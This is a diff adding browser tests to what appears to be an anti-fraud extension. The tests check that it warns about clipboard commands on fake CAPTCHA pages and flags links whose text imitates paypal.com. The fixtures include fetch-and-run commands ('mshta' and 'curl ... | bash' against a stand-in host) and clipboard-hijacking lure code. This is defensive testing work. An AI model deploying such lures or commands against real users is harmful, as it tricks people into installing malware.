@@ -187,6 +187,54 @@ describe.each(BROWSERS)('a page that no list names (%s)', (name) => {
     expect(await tab.evaluate(() => document.querySelector('[data-sansi="continued"]'))).toBeNull();
   });
 
+  it('says there what it puts into the clipboard, where that is a command, and nothing of what is none', async () => {
+    const copy = `function copy(text, how) {
+      if (how === 'event') { addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', text);
+        event.preventDefault(); event.stopImmediatePropagation(); }, { once: true, capture: true }); }
+      const field = Object.assign(document.createElement('textarea'), { value: how === 'event' ? 'x' : text });
+      document.body.append(field); field.select(); document.execCommand('copy'); field.remove(); }`;
+    const button = (id: string, does: string) =>
+      `<p><button id="${id}" onclick="${does}">I am no robot</button></p>`;
+    const buttons = [
+      button('plain', "copy('Order 4711')"),
+      button('field', "copy('mshta https://site.example/field')"),
+      button('event', "copy('mshta https://site.example/event', 'event')"),
+      button('write', "navigator.clipboard.writeText('curl https://site.example/a | bash')"),
+    ];
+    // As on https, where the browser has it: here the page brings its own.
+    const own =
+      'class Clipboard { async writeText() {} } Object.defineProperty(navigator, "clipboard", { value: new Clipboard() });';
+    world.sites.route(
+      'listed-fraud.test',
+      '/robot',
+      html('Check', `${buttons.join('')}<script>${copy} ${own}</script>`),
+    );
+    await tab.goto('http://listed-fraud.test/robot');
+    await tab.waitFor(BAR);
+    const boxes = () =>
+      tab.evaluate(() =>
+        [...document.querySelectorAll('[data-sansi="caution"]')].map((box) => box.clientHeight > 40),
+      );
+    await tab.click('#plain');
+    for (const id of ['field', 'event', 'write']) {
+      expect(await boxes()).toEqual([]);
+      await tab.click(`#${id}`);
+      await expect.poll(boxes, PATIENT).toEqual([true]);
+      await tab.evaluate(() => document.querySelector('[data-sansi="caution"]')!.remove());
+    }
+    // No other page is listened to: nothing in it is another's than its own.
+    world.sites.route(
+      'news.test',
+      '/robot',
+      html('News', `${buttons.join('')}<script>${copy} ${own}</script>`),
+    );
+    await tab.goto('http://news.test/robot');
+    const untouched = () =>
+      Object.getPrototypeOf((navigator as unknown as { clipboard: object }).clipboard).writeText.toString();
+    expect(await tab.evaluate(untouched)).toContain('async writeText');
+    await tab.click('#field');
+  });
+
   it('is left by the bar, and is no longer let through then', async () => {
     await tab.goto('http://listed-fraud.test/');
     await tab.waitFor(BAR);
@@ -207,5 +255,36 @@ describe.each(BROWSERS)('a page that no list names (%s)', (name) => {
     );
     await tab.waitFor('#link0[data-sansi="suspect"]');
     expect(await tab.evaluate(() => document.querySelector('#link1')?.getAttribute('data-sansi'))).toBeNull();
+  });
+
+  it('is marked in links whose words are a well-known address, and says so where somebody comes to one', async () => {
+    const link = (id: string, to: string, words: string) => `<p><a id="${id}" href="${to}">${words}</a></p>`;
+    const links = [
+      link('own', 'https://www.paypal.com/signin', 'paypal.com'),
+      link('short', 'https://bit.ly/3xYz', 'Our photos'),
+      link('other', 'https://garden-lantern-notes.com/a', 'www.paypal.com/signin'),
+      link('plain', 'https://garden-lantern-notes.com/a', 'Garden notes'),
+    ];
+    world.sites.route('plain-mail.test', '/', html('Mail', links.join('')));
+    await tab.goto('http://plain-mail.test/');
+    await tab.waitFor('#other[data-sansi="suspect"]');
+    expect(await tab.evaluate(() => document.querySelectorAll('a[data-sansi]').length)).toBe(1);
+    /** The box that says something, in a root that the page cannot look into. */
+    const isSaid = () =>
+      tab.evaluate(() => document.documentElement.lastElementChild instanceof HTMLDivElement);
+    for (const [id, said] of [
+      ['own', false],
+      ['short', true],
+      ['other', true],
+      ['plain', false],
+    ] as const) {
+      await tab.evaluate((which) => {
+        const before = document.createElement('input');
+        document.getElementById(which)!.before(before);
+        before.focus();
+      }, id);
+      await tab.press('Tab');
+      await expect.poll(isSaid, PATIENT).toBe(said);
+    }
   });
 });
